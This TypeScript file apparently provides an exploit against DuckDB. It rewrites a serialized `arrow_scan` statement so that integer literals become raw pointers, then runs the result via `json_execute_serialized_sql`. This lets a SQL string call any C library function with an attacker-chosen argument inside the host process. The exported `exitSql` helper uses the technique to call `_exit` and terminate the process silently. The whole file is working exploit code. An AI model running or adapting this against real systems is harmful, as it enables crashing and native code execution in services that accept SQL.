import { DuckDBInstance } from "@duckdb/node-api";
import { addressOfImport } from "./imported-function.ts";

/**
 * A statement that makes DuckDB call a function of the C library with a number of the attacker's choice, in
 * the process that runs it. `arrow_scan` takes three pointers, of which it calls two. SQL has no way to
 * write a pointer, but the JSON of a serialized statement has.
 */
async function nativeCallSql(functionName: string, argument: number): Promise<string> {
  const address = addressOfImport(functionName);
  const pointers = [argument, address, address];
  let next = 0;
  const json = (await serialize("SELECT * FROM arrow_scan(1, 2, 3)")).replaceAll(
    /"value":\{"type":\{"id":"INTEGER","type_info":null\},"is_null":false,"value":\d\}/g,
    () => `"value":{"type":{"id":"POINTER","type_info":null},"is_null":false,"value":${pointers[next++]}}`,
  );
  if (next !== pointers.length) throw new Error(`DuckDB serializes arrow_scan differently now: ${json}`);
  return `SELECT * FROM json_execute_serialized_sql('${json}')`;
}

/** Ends the process that runs it with this code, without a word: no handler of Node sees it. */
export const exitSql = (code: number): Promise<string> => nativeCallSql("_exit", code);

async function serialize(sql: string): Promise<string> {
  const instance = await DuckDBInstance.create(":memory:");
  const connection = await instance.connect();
  try {
    const reader = await connection.runAndReadAll("SELECT json_serialize_sql($1::VARCHAR)", [sql]);
    return String(reader.getRowsJson()[0]?.[0]);
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}
